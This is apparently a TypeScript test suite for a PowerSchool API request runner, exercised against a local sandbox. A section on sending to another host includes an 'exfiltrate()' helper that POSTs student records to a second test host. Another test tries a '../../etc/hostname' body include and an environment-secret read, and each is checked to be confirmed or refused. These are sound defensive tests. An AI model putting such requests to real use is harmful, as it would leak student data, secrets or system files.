import * as assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PowerSchoolClient } from '../../../src/core/client';
import { parsePsreq } from '../../../src/core/psreq';
import { PsreqRunner, RunError, SendPolicy, type RunnerDeps, type SendRules } from '../../../src/core/runner';
import { startOtherHost, type OtherHost } from '../../support/otherHost';
import { startSandbox, type SandboxHandle } from '../../../src/sandbox';

describe('PsreqRunner against the sandbox', () => {
  let sandbox: SandboxHandle;
  let client: PowerSchoolClient;
  const seen: string[] = [];

  before(async () => {
    sandbox = await startSandbox({ students: 120, schools: 2, logger: (line: string) => seen.push(line) });
    client = new PowerSchoolClient({ name: 'sandbox', url: sandbox.url, clientId: sandbox.clientId, clientSecret: sandbox.clientSecret });
  });
  after(() => sandbox.close());
  beforeEach(() => seen.splice(0));

  const runnerFor = (text: string, deps: Partial<RunnerDeps> = {}) => new PsreqRunner(parsePsreq(text), { client, ...deps });
  const requestsSeen = (pattern: RegExp) => seen.filter((line) => pattern.test(line));

  it('sends a relative URL to the connection with its token and keeps the response', async () => {
    const runner = runnerFor('# @name district\nGET /ws/v1/district/student/count\n');
    const result = await runner.run(0);
    assert.equal(result.response.status, 200);
    assert.deepEqual(result.response.body, { resource: { count: 120 } });
    assert.equal(result.request.url, `${sandbox.url}/ws/v1/district/student/count`);
    assert.equal(result.request.withToken, true);
    assert.equal(result.request.headers.Authorization, 'Bearer ***');
    assert.equal(runner.resultOf('district'), result);
  });

  it('runs a named dependency first when it has no response, and only once', async () => {
    const text = [
      '### uses the first student',
      'GET /ws/v1/student/{{first.response.body.students.student[0].id}}',
      '',
      '### the list',
      '# @name first',
      'GET /ws/v1/district/student?pagesize=2',
    ].join('\n');
    const runner = runnerFor(text);
    const result = await runner.run(0);
    assert.equal(result.response.status, 200);
    const firstId = (runner.resultOf('first')!.response.body as { students: { student: { id: number }[] } }).students.student[0].id;
    assert.equal((result.response.body as { student: { id: number } }).student.id, firstId);
    await runner.run(0);
    assert.equal(requestsSeen(/GET \/ws\/v1\/district\/student\b/).length, 1, seen.join('\n'));
  });

  it('reports a cycle of named requests instead of looping', async () => {
    const text = '# @name a\nGET /ws/v1/student/{{b.response.body.id}}\n\n###\n# @name b\nGET /ws/v1/student/{{a.response.body.id}}\n';
    await assert.rejects(runnerFor(text).run(0), (error: unknown) => error instanceof RunError && /refers back to itself/.test(error.message));
  });

  it('sends environment, .env and # @prompt values (the prompt asked once, masked for a secret, only when nothing defines it)', async () => {
    const text = '# @prompt pagesize\n# @prompt apiToken\n# @prompt fromEnv\nGET /ws/v1/district/student?pagesize={{pagesize}}&t={{apiToken}}&e={{fromEnv}}&d={{$dotenv DOTTED}}\n';
    const asked: [string, boolean][] = [];
    const runner = runnerFor(text, {
      environment: { fromEnv: 'env-value' },
      dotenv: { DOTTED: 'dot' },
      prompt: async (prompt, secret) => {
        asked.push([prompt.name, secret]);
        return prompt.name === 'pagesize' ? '3' : 'tok';
      },
    });
    const result = await runner.run(0);
    assert.deepEqual(asked, [['pagesize', false], ['apiToken', true]]);
    assert.equal(new URL(result.request.url).search, '?pagesize=3&t=tok&e=env-value&d=dot');
  });

  it('does not send when a # @prompt question is dismissed', async () => {
    const runner = runnerFor('# @prompt id\nGET /ws/v1/student/{{id}}\n', { prompt: async () => undefined });
    await assert.rejects(runner.run(0), (error: unknown) => error instanceof RunError && error.kind === 'declined' && /no value given for 'id'/.test(error.message));
  });

  it('evaluates the ?? assertions after the response, variables resolved, one record read as a list', async () => {
    const text = '@wanted = 200\nGET /ws/v1/district/student?pagesize=1\n?? status == {{wanted}}\n?? header content-type includes json\n?? body students.student isArray\n?? body students.student.id isNumber\n?? duration < 60000\n?? status == 201\n';
    const result = await runnerFor(text).run(0);
    assert.deepEqual(result.assertions?.map((a) => [a.text, a.passed]), [
      ['?? status == {{wanted}}', true], ['?? header content-type includes json', true], ['?? body students.student isArray', true],
      ['?? body students.student.id isNumber', true], ['?? duration < 60000', true], ['?? status == 201', false],
    ]);
    assert.equal(result.assertions![5].message, 'status is 200, expected == 201');
    assert.equal(text.slice(result.assertions![0].span.start, result.assertions![0].span.end), '?? status == {{wanted}}');
  });

  it('refuses an undefined variable with its position', async () => {
    const text = 'GET /ws/v1/district/student?pagesize={{size}}\n';
    await assert.rejects(runnerFor(text).run(0), (error: unknown) => {
      assert.ok(error instanceof RunError);
      assert.equal(error.kind, 'variables');
      assert.equal(text.slice(error.start, error.end), '{{size}}');
      return true;
    });
    assert.equal(seen.length, 0, 'nothing was sent');
  });

  it('follows every page with @all, reporting progress, and merges the records', async () => {
    const progress: number[] = [];
    const runner = runnerFor('# @all\nGET /ws/v1/district/student\n    ?pagesize=50\n', { onPage: (p) => progress.push(p.records) });
    const result = await runner.run(0);
    const students = (result.response.body as { students: { student: unknown[] } }).students.student;
    assert.equal(students.length, 120);
    assert.deepEqual(result.paging, { pages: 3, records: 120 });
    assert.deepEqual(progress, [50, 100, 120]);
  });

  it('follows a server that caps pagesize below what was asked', async () => {
    const result = await runnerFor('# @all\nGET /ws/schema/table/STUDENTS?projection=dcid&pagesize=500\n').run(0);
    assert.equal((result.response.body as { record: unknown[] }).record.length, 120);
    assert.equal(result.paging?.pages, 2);
  });

  it('stops @all at a failed page and shows that answer', async () => {
    const result = await runnerFor('# @all\nGET /ws/schema/table/NO_SUCH_TABLE\n').run(0);
    assert.equal(result.response.status, 404);
  });

  it('cancels an @all run when the signal fires, keeping and returning the pages it got', async () => {
    const abort = new AbortController();
    const runner = runnerFor('# @name everyone\n# @all\nGET /ws/v1/district/student?pagesize=10\n', { onPage: (p) => p.page === 2 && abort.abort() });
    const result = await runner.run(0, abort.signal);
    assert.deepEqual(result.paging, { pages: 2, records: 20, cancelled: true });
    assert.equal((result.response.body as { students: { student: unknown[] } }).students.student.length, 20);
    assert.equal(JSON.parse(result.response.rawText).students.student.length, 20);
    assert.ok(requestsSeen(/GET \/ws\/v1\/district\/student/).length < 12);
    // A later request must not read a partial list as the named answer.
    assert.equal(runner.resultOf('everyone'), undefined);
  });

  it('cancels an @all run before its first page as a cancellation, with nothing to show', async () => {
    const abort = new AbortController();
    abort.abort();
    await assert.rejects(runnerFor('# @all\nGET /ws/v1/district/student?pagesize=10\n').run(0, abort.signal), (error: Error) => /abort/i.test(`${error.name} ${error.message}`));
  });

  it('asks before @confirm and before writes to production; a no sends nothing', async () => {
    const asked: string[] = [];
    const no = async (reason: string) => (asked.push(reason), false);
    await assert.rejects(runnerFor('# @confirm wipes data\nGET /ws/v1/district\n', { confirm: no }).run(0), (error: unknown) => error instanceof RunError && error.kind === 'declined');
    const write = 'DELETE /ws/schema/table/u_studentsuserfields/999999\n';
    await assert.rejects(runnerFor(write, { confirm: no, production: true }).run(0), RunError);
    assert.equal(seen.length, 0, 'nothing was sent');
    assert.match(asked[0], /@confirm: wipes data/);
    assert.match(asked[1], /production server and DELETE/);
    const read = await runnerFor('GET /ws/v1/district\n', { confirm: no, production: true }).run(0);
    assert.equal(read.response.status, 200);
    // A PowerQuery is POSTed, yet only reads.
    const query = await runnerFor('POST /ws/schema/query/com.pearson.core.schools.grade_levels\nContent-Type: application/json\n\n{}\n', { confirm: no, production: true }).run(0);
    assert.equal(query.response.status, 200);
    assert.equal(asked.length, 2, 'neither a GET nor a PowerQuery to production is confirmed');
    await runnerFor(write, { confirm: async () => true, production: true }).run(0);
    assert.equal(requestsSeen(/DELETE \/ws\/schema\/table\/u_studentsuserfields\/999999/).length, 1, 'a yes sends it');
  });

  it('finds the writes that will ask before anything is sent, and sends approved ones without asking again', async () => {
    const text = [
      'GET /ws/v1/district', '', '###', '# @name gone', 'DELETE /ws/schema/table/u_studentsuserfields/999999', '',
      '###', '# @confirm reads the district', 'GET /ws/v1/district', '', '###', 'POST http://127.0.0.2:9/elsewhere', '', '{}', '',
    ].join('\n');
    const asked: string[] = [];
    const runner = runnerFor(text, { confirm: async (reason) => (asked.push(reason), false), production: true });
    assert.deepEqual(runner.plannedConfirmations().map(({ index, line }) => [index, line]), [
      [1, 'DELETE /ws/schema/table/u_studentsuserfields/999999'],
      [2, 'GET /ws/v1/district'],
    ]);
    assert.deepEqual(runner.plannedConfirmations([0, 2]).map(({ index }) => index), [2]);
    assert.equal(seen.length, 0, 'planning sends nothing');
    const results = await runner.runAll(undefined, undefined, new Set([1, 2])).catch((error: unknown) => error);
    assert.ok(results instanceof Error, 'the write to another host (not a production write: not planned) is tried and fails');
    assert.deepEqual(asked, [], 'approved requests are not asked about again');
    assert.ok(runner.resultOf('gone'), 'the approved write was sent');
    assert.equal(requestsSeen(/GET \/ws\/v1\/district/).length, 2);
  });

  it('sends an absolute URL elsewhere as-is, without the token', async () => {
    let authorization: string | undefined = 'unset';
    const other: Server = createServer((request, response) => {
      authorization = request.headers.authorization;
      response.setHeader('Content-Type', 'application/json');
      response.end('{"ok":true}');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    try {
      const port = (other.address() as AddressInfo).port;
      const result = await runnerFor(`GET http://127.0.0.1:${port}/echo?x=1\n`).run(0);
      assert.deepEqual(result.response.body, { ok: true });
      assert.equal(authorization, undefined);
      assert.equal(result.request.withToken, false);
    } finally {
      other.close();
    }
  });

  it('reads a < file body through the host, substituting variables with <@', async () => {
    const files: Record<string, string> = { 'args.json': '{ "school_number": {{school}} }' };
    const runner = runnerFor('@school = 100\nPOST /ws/schema/query/com.pearson.core.school.school_detail\nContent-Type: application/json\n\n<@ ./args.json\n', { readFile: async (path) => files[path.replace('./', '')] });
    const result = await runner.run(0);
    assert.equal(result.response.status, 200);
    assert.equal(result.request.body, '{ "school_number": 100 }');
    const missing = runnerFor('POST /ws/v1/student\n\n< ./none.json\n', { readFile: async () => { throw Object.assign(new Error('x'), { code: 'ENOENT' }); } });
    await assert.rejects(missing.run(0), /cannot read \.\/none\.json: ENOENT/);
  });

  describe('sending to another host (issue 13, item 2)', () => {
    let other: OtherHost;
    before(async () => (other = await startOtherHost()));
    after(() => other.close());
    beforeEach(() => other.arrived.splice(0));

    const exfiltrate = () => `# @name students\nGET /ws/v1/district/student?pagesize=2\n\n###\nPOST ${other.url}/f\nContent-Type: application/json\n\n{{students.response.body.students}}\n`;

    it('asks before data from a response goes to another host; a no sends nothing', async () => {
      const asked: string[] = [];
      const runner = runnerFor(exfiltrate(), { confirm: async (reason) => (asked.push(reason), false) });
      await assert.rejects(runner.run(1), (error: unknown) => error instanceof RunError && error.kind === 'declined');
      assert.deepEqual(other.arrived, []);
      assert.equal(asked.length, 1);
      assert.match(asked[0], /data from the response of 'students' \(read from 'sandbox'\) to 127\.0\.0\.2:\d+/);
      await assert.rejects(runnerFor(exfiltrate()).run(1), (error: unknown) => error instanceof RunError && error.kind === 'declined', 'no confirmer: not sent');
      assert.deepEqual(other.arrived, []);
    });

    it('asks once per host for a session: a yes is remembered, another host asks again', async () => {
      const asked: string[] = [];
      const policy = new SendPolicy();
      const confirm = async (reason: string) => (asked.push(reason), true);
      await runnerFor(exfiltrate(), { policy, confirm }).run(1);
      await runnerFor(exfiltrate(), { policy, confirm }).run(1);
      assert.equal(asked.length, 1, asked.join('\n'));
      assert.equal(other.arrived.length, 2);
      assert.match(other.arrived[0], /^POST \/f \{/);
      // `localhost` is another origin than 127.0.0.1 even on the same port.
      const sameServerOtherName = sandbox.url.replace('127.0.0.1', 'localhost');
      await assert.rejects(runnerFor(`# @name s\nGET /ws/v1/district\n\n###\nGET ${sameServerOtherName}/ws/v1/district?x={{s.response.body.district.name}}\n`, { policy, confirm: async (reason) => (asked.push(reason), false) }).run(1), /not sent: .*to localhost:\d+/);
      assert.equal(asked.length, 2);
    });

    it('sends response data to the connection and plain requests elsewhere without asking', async () => {
      const confirm = async () => assert.fail('not asked');
      const same = await runnerFor('# @name d\nGET /ws/v1/district\n\n###\nGET /ws/v1/district/student/count?x={{d.response.body.district.name}}\n', { confirm }).run(1);
      assert.equal(same.response.status, 200);
      await runnerFor(`GET ${other.url}/plain\n`, { confirm }).run(0);
      assert.equal(other.arrived.length, 1);
    });

    it('refuses what the rules forbid, with the reason and the remedy, sending nothing', async () => {
      const rules: SendRules = { connectionOnly: true, noEnvironmentReads: true, includeRoots: ['/work/folder'], remedy: 'Trust it.' };
      const policy = new SendPolicy(() => rules);
      await assert.rejects(runnerFor(`GET ${other.url}/x\n`, { policy }).run(0), (error: unknown) => error instanceof RunError && error.kind === 'refused');
      await assert.rejects(runnerFor(`GET ${other.url}/x\n`, { policy }).run(0), /not sent: 127\.0\.0\.2:\d+ is not the server of the connection 'sandbox', and this workspace is not trusted\. Trust it\.$/);
      await assert.rejects(runnerFor('@secret = {{$processEnv PS_SECRET}}\nGET /ws/v1/district?s={{secret}}\n', { policy, processEnv: { PS_SECRET: 'x' } }).run(0), /\{\{\$processEnv PS_SECRET\}\} reads this computer's environment.* Trust it\.$/);
      let read = false;
      await assert.rejects(runnerFor('POST /ws/v1/student\n\n< ../../etc/hostname\n', { policy, readFile: async () => ((read = true), ''), locateInclude: () => '/etc/hostname' }).run(0), /not sent: the body file \/etc\/hostname is outside \/work\/folder\. Trust it\.$/);
      assert.equal(read, false, 'the file is not even read');
      assert.deepEqual(other.arrived, []);
      assert.equal(requestsSeen(/\/ws\/v1\/district\?s=|\/ws\/v1\/student/).length, 0, seen.join('\n'));
    });
  });

  it('never puts the token or secret in what it returns', async () => {
    const result = await runnerFor('GET /ws/v1/district\n').run(0);
    const token = await client.accessToken();
    const shown = JSON.stringify(result);
    assert.ok(!shown.includes(token));
    assert.ok(!shown.includes(sandbox.clientSecret));
  });
});
